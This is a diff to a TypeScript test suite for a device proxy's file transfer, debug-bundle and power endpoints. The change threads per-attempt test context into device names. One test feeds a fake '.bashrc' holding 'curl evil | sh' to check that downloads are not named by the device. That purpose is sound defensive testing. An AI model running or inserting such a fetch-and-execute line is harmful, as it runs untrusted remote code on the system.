@@ -1,5 +1,6 @@
 import { createHash, randomBytes } from 'node:crypto';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { TestContext } from 'vitest';
 import {
   TRANSFER_CONTENT_TYPE,
   TransferDecoder,
@@ -10,6 +11,7 @@ import {
   encodeFileStart,
 } from '@outpost/shared';
 import type { Channel } from '@outpost/shared';
+import { perAttempt } from '../helpers/per-attempt.js';
 import { startTestServer } from '../helpers/test-server.js';
 import type { TestServer } from '../helpers/test-server.js';
 import { ScriptedAgent, createDevice } from './scripted-agent.js';
@@ -25,8 +27,8 @@ afterAll(async () => {
   await server.dispose();
 });
 
-async function connectedDevice(id: string): Promise<{ name: string; agent: ScriptedAgent }> {
-  const name = `${region}/devices/${id}`;
+async function connectedDevice(context: TestContext, id: string): Promise<{ name: string; agent: ScriptedAgent }> {
+  const name = perAttempt(context, `${region}/devices/${id}`);
   const agent = await ScriptedAgent.connect(server.url, await createDevice(server.admin, name));
   agents.push(agent);
   return { name, agent };
@@ -59,8 +61,8 @@ function fileStream(name: string, bytes: Buffer): Buffer {
 }
 
 describe('file transfer endpoints: refusals before any byte moves', () => {
-  it('need services/proxies.outpost/permissions/projects.connect on the device project', async () => {
-    const { name } = await connectedDevice('perm-box');
+  it('need services/proxies.outpost/permissions/projects.connect on the device project', async (context) => {
+    const { name } = await connectedDevice(context, 'perm-box');
     const devicesOnly = await keyWith('services/devices.outpost/permissions/*');
     for (const [verb, init] of [
       ['upload', { method: 'POST', body: 'x', headers: { 'content-type': 'application/octet-stream' } }],
@@ -84,8 +86,8 @@ describe('file transfer endpoints: refusals before any byte moves', () => {
     expect((await fetch(url(name, 'download', { path: '/tmp/x' }))).status).toBe(401);
   });
 
-  it('refuse relative upload paths, JSON bodies, unknown and offline devices, and directories as raw bytes', async () => {
-    const offline = `${region}/devices/asleep`;
+  it('refuse relative upload paths, JSON bodies, unknown and offline devices, and directories as raw bytes', async (context) => {
+    const offline = perAttempt(context, `${region}/devices/asleep`);
     await createDevice(server.admin, offline);
     const post = (device: string, query: Record<string, string>, contentType = 'application/octet-stream') =>
       fetch(url(device, 'upload', query), {
@@ -111,8 +113,8 @@ describe('file transfer endpoints: refusals before any byte moves', () => {
 });
 
 describe('relaying over the device channel', () => {
-  it('downloads one file as raw bytes with its name and length; the device is told when the client leaves', async () => {
-    const { name, agent } = await connectedDevice('relay-box');
+  it('downloads one file as raw bytes with its name and length; the device is told when the client leaves', async (context) => {
+    const { name, agent } = await connectedDevice(context, 'relay-box');
     const small = randomBytes(300_000);
     const closed: unknown[] = [];
     agent.onChannel('transfer.download', (channel: Channel, args) => {
@@ -156,8 +158,8 @@ describe('relaying over the device channel', () => {
     expect(closed[0]).toMatchObject({ status: 'ABORTED', message: 'the client went away' });
   });
 
-  it('names a raw download after the requested path, never the device, and refuses more than one file', async () => {
-    const { name, agent } = await connectedDevice('hostile-box');
+  it('names a raw download after the requested path, never the device, and refuses more than one file', async (context) => {
+    const { name, agent } = await connectedDevice(context, 'hostile-box');
     agent.onChannel('transfer.download', (channel: Channel, args) => {
       const { path } = args as { path: string };
       const one = fileStream('.bashrc', Buffer.from('curl evil | sh\n'));
@@ -187,8 +189,8 @@ describe('relaying over the device channel', () => {
     await expect(twoFiles.arrayBuffer()).rejects.toThrow();
   });
 
-  it('uploads: the device answers with its summary, or its refusal while the client is still sending', async () => {
-    const { name, agent } = await connectedDevice('upload-box');
+  it('uploads: the device answers with its summary, or its refusal while the client is still sending', async (context) => {
+    const { name, agent } = await connectedDevice(context, 'upload-box');
     agent.onChannel('transfer.upload', (channel: Channel, args) => {
       const { path } = args as { path: string };
       void (async () => {
@@ -229,8 +231,8 @@ describe('relaying over the device channel', () => {
     expect(await errorOf(refused)).toMatchObject({ message: '/refuse/: no space left on the device' });
   });
 
-  it('streams a debug bundle as application/gzip under a suggested file name', async () => {
-    const { name, agent } = await connectedDevice('bundle-box');
+  it('streams a debug bundle as application/gzip under a suggested file name', async (context) => {
+    const { name, agent } = await connectedDevice(context, 'bundle-box');
     agent.onChannel('debug.bundle', (channel: Channel) => {
       void channel.write(Buffer.from('not really gzip')).then(() => channel.end());
       return {};
@@ -239,7 +241,7 @@ describe('relaying over the device channel', () => {
     expect(response.status).toBe(200);
     expect(response.headers.get('content-type')).toBe('application/gzip');
     expect(response.headers.get('content-disposition')).toMatch(
-      /^attachment; filename="outpost-debug-bundle-box-\d{8}T\d{6}Z\.tar\.gz"$/,
+      new RegExp(`^attachment; filename="outpost-debug-${name.split('/').at(-1)}-\\d{8}T\\d{6}Z\\.tar\\.gz"$`),
     );
     expect(await response.text()).toBe('not really gzip');
     const noBundle = await keyWith('services/proxies.outpost/permissions/projects.connect');
@@ -249,8 +251,8 @@ describe('relaying over the device channel', () => {
 });
 
 describe(':reboot and :shutdown', () => {
-  it('are commands over the device connection; UNAVAILABLE when it is offline', async () => {
-    const { name, agent } = await connectedDevice('power-box');
+  it('are commands over the device connection; UNAVAILABLE when it is offline', async (context) => {
+    const { name, agent } = await connectedDevice(context, 'power-box');
     const asked: string[] = [];
     agent.on('power.reboot', () => void asked.push('reboot'));
     agent.on('power.shutdown', () => void asked.push('shutdown'));
